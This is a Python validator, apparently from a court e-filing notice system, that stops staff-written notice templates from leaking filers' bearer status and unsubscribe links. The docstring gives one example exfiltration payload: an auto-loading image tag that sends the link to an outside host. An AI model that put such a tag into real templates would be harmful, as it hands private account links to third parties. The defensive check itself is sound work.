"""Where a court's notice template may put the filer's personal links.

`status_url` and `unsubscribe_url` are bearer links: whoever holds one sees the filer's status at
every court they file at (and can act on it), or stops their reminders, without a login. A court's
template is written by that court's staff, so it must not be able to hand those links to anyone but
the filer: inside another address (`<img src="https://elsewhere/?u={{ status_url|urlencode }}">`
loads by itself and sends the link away), cut into pieces by a filter or a loop, or as the value of
anything but a link the filer clicks. Two checks, both run before a template is saved:

1. In the source, the names appear only as `{{ status_url }}` / `{{ unsubscribe_url }}`: no filter,
   no attribute, no tag (`for`, `firstof`, `cycle`, `with`, `if`) mentions them. The rendered link is
   then the whole address, character for character.
2. In a sample rendering, every occurrence of the address stands on its own: in HTML only as the
   whole `href` of an `<a>`, or as text; in text and subject, not glued to what comes before it
   (`https://elsewhere/?u=` followed by the link is one address to a mail program).
"""
from __future__ import annotations

from html.parser import HTMLParser

from rollout.notices.template_scan import tags_outside_comments, words_in

BEARER_LINKS = ("status_url", "unsubscribe_url")
# What may stand right before a link printed as text: it then starts an address of its own.
_STARTS_ADDRESS = frozenset(" \t\r\n(<>\"':")


def bearer_link_source_problems(part: str, source: str) -> list[str]:
    """Tags of one template part (`part`: "subject", "text body", "HTML body") that use a bearer
    link other than by printing it whole."""
    problems = []
    for opener, contents, line in tags_outside_comments(source):
        named = [name for name in BEARER_LINKS if name in words_in(contents)]
        if named and not (opener == "{{" and contents.strip() == named[0]):
            problems.append(
                f"{part}, line {line}: {{{{ {named[0]} }}}} is the filer's personal link; it may only be printed "
                f"whole, as {{{{ {named[0]} }}}} (no filter, no tag), so it reaches the filer and nobody else.")
    return problems


class _LinkPlaces(HTMLParser):
    """Collects where the given addresses stand in an HTML part."""

    def __init__(self, links: dict[str, str]) -> None:
        super().__init__(convert_charrefs=True)
        self.links, self.problems = links, []

    def handle_starttag(self, tag, attrs):
        for attribute, value in attrs:
            for name, link in self.links.items():
                if value and link in value and not (tag == "a" and attribute == "href" and value.strip() == link):
                    self.problems.append(
                        f"HTML body: {{{{ {name} }}}} stands in <{tag} {attribute}=…>; the filer's personal link may "
                        f"only be a link's whole address (<a href=\"{{{{ {name} }}}}\">) or text.")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.problems.extend(_glued(data, self.links, "HTML body"))


def _glued(text: str, links: dict[str, str], part: str) -> list[str]:
    problems = []
    for name, link in links.items():
        start = text.find(link)
        while start >= 0:
            if start > 0 and text[start - 1] not in _STARTS_ADDRESS:
                problems.append(f"{part}: {{{{ {name} }}}} is glued to the text before it ({text[max(0, start - 20):start]!r}), "
                                f"which would make it part of another address; put a space before it.")
            start = text.find(link, start + 1)
    return problems


def bearer_link_rendered_problems(subject: str, text: str, html: str, links: dict[str, str]) -> list[str]:
    """Places in a rendered sample where a bearer link (`links`: name → the sample's address) does
    not stand on its own."""
    links = {name: link for name, link in links.items() if link}
    problems = _glued(subject, links, "Subject") + _glued(text, links, "Text body")
    parser = _LinkPlaces(links)
    parser.feed(html)
    parser.close()
    return problems + parser.problems
